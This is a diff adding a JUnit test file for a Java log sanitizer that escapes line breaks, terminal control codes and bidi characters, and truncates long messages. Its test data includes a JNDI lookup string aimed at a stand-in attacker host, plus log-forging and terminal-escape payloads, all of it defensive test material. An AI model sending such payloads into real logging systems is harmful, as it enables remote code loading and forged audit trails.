@@ -1,0 +1,74 @@
+package io.rollcall.servicekit.log;
+
+import java.io.PrintWriter;
+import java.io.StringWriter;
+
+import org.jboss.logmanager.ExtLogRecord;
+import org.jboss.logmanager.ExtLogRecord.FormatStyle;
+import org.jboss.logmanager.Level;
+import org.junit.jupiter.api.Test;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class OneLineTest {
+
+    @Test
+    void ordinaryTextStaysTheSame() {
+        String text = "Förde Straße 東京 ${jndi:ldap://attacker.example/x} 100%";
+
+        assertThat(OneLine.of(text)).isSameAs(text);
+        assertThat(OneLine.of(null)).isNull();
+    }
+
+    @Test
+    void aValueCannotForgeALineOrSteerATerminal() {
+        assertThat(OneLine.of("eve\r\n2026-11-28 ERROR forged\u001B[2J\u009B31m\u2028x\u202Ey"))
+                .isEqualTo("eve\\u000d\\n2026-11-28 ERROR forged\\u001b[2J\\u009b31m\\u2028x\\u202ey");
+    }
+
+    @Test
+    void aLongMessageIsCut() {
+        assertThat(OneLine.of("x".repeat(1_000_000)))
+                .hasSizeLessThan(OneLine.LONGEST + 40)
+                .endsWith("... (991808 more)");
+    }
+
+    @Test
+    void parametersAreCoveredToo() {
+        ExtLogRecord record = new ExtLogRecord(Level.INFO, "%s listed %d", FormatStyle.PRINTF, "test");
+        record.setParameters(new Object[] {"eve\nERROR", 3});
+
+        assertThat(new OneLine().isLoggable(record)).isTrue();
+        assertThat(record.getFormattedMessage()).isEqualTo("eve\\nERROR listed 3");
+    }
+
+    @Test
+    void messagesOfExceptionsAreCoveredAndTheirStacksAreKept() {
+        Exception cause = new IllegalStateException("inner\nERROR forged");
+        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
+        record.setThrown(new RuntimeException("outer", cause));
+
+        new OneLine().isLoggable(record);
+
+        StringWriter text = new StringWriter();
+        record.getThrown().printStackTrace(new PrintWriter(text, true));
+        assertThat(text.toString())
+                .contains(
+                        "java.lang.RuntimeException: outer",
+                        "inner\\nERROR forged",
+                        "at " + getClass().getName())
+                .doesNotContain("\nERROR");
+    }
+
+    @Test
+    void anExceptionThatIsItsOwnCauseIsWritten() {
+        Exception first = new Exception("a\nb");
+        Exception second = new Exception("second", first);
+        first.initCause(second);
+        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
+        record.setThrown(first);
+
+        assertThat(new OneLine().isLoggable(record)).isTrue();
+        assertThat(record.getThrown().toString()).isEqualTo("java.lang.Exception: a\\nb");
+    }
+}
